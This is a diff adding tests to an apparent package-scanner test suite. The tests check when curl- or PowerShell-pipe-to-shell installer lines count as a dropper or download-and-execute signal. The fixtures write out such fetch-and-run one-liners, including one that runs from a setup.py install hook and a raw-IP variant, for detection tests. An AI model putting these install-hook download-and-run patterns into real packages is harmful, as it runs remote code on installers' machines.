@@ -552,3 +552,49 @@ def test_lookalike_letters_in_strings_and_math_symbols_are_not_obfuscation() -> 
     physics = "\N{MATHEMATICAL ITALIC SMALL X} = 2.0\n\N{MATHEMATICAL ITALIC SMALL THETA} = 0.5\n"
     files = {"fancytext-1.0/fancytext/styles.py": styles, "sim-1.0/sim/model.py": physics}
     assert SignalKind.OBFUSCATION not in kinds(files)
+
+
+# Found in a random draw of ordinary releases: a CLI offering to install another vendor's
+# agent with its official one-liner, and a docstring telling the user how to install.
+VENDOR_INSTALLER = '''import subprocess
+
+INSTALLERS = {
+    "unix": "curl -fsSL https://agent-vendor.example/install.sh | bash",
+    "windows": "irm https://agent-vendor.example/install.ps1 | iex",
+}
+
+
+def install_agent(platform):
+    subprocess.run(INSTALLERS[platform], shell=True, check=True)
+'''
+DOCSTRING_INSTALL = '''"""Preflight checks.
+
+Install the agent first:
+
+    curl -fsSL https://agent-vendor.example/preflight.sh | sh
+"""
+import subprocess
+
+
+def check():
+    return subprocess.run(["uname", "-a"], capture_output=True).returncode == 0
+'''
+
+
+def test_a_module_that_installs_a_vendor_tool_is_not_a_dropper() -> None:
+    assert SignalKind.DROPPER not in kinds({"pkg/agents/setup.py": VENDOR_INSTALLER})
+    assert verdict({"pkg/agents/setup.py": VENDOR_INSTALLER}) is not Verdict.MALICIOUS
+
+
+def test_the_same_one_liner_at_install_or_from_a_raw_ip_is() -> None:
+    hook = "import os\nos.system('curl -fsSL https://agent-vendor.example/i.sh | sh')\n" \
+           "from setuptools import setup\nsetup(name='x')\n"
+    assert SignalKind.DROPPER in kinds({"x-1.0/setup.py": hook})
+    raw_ip = VENDOR_INSTALLER.replace("agent-vendor.example", "45.77.12.9")
+    assert SignalKind.DROPPER in kinds({"pkg/agents/setup.py": raw_ip})
+
+
+def test_a_download_and_run_line_in_a_docstring_is_prose() -> None:
+    assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": DOCSTRING_INSTALL})
+    assigned = DOCSTRING_INSTALL.replace('"""Preflight', 'NOTE = """Preflight', 1)
+    assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/preflight.py": assigned})
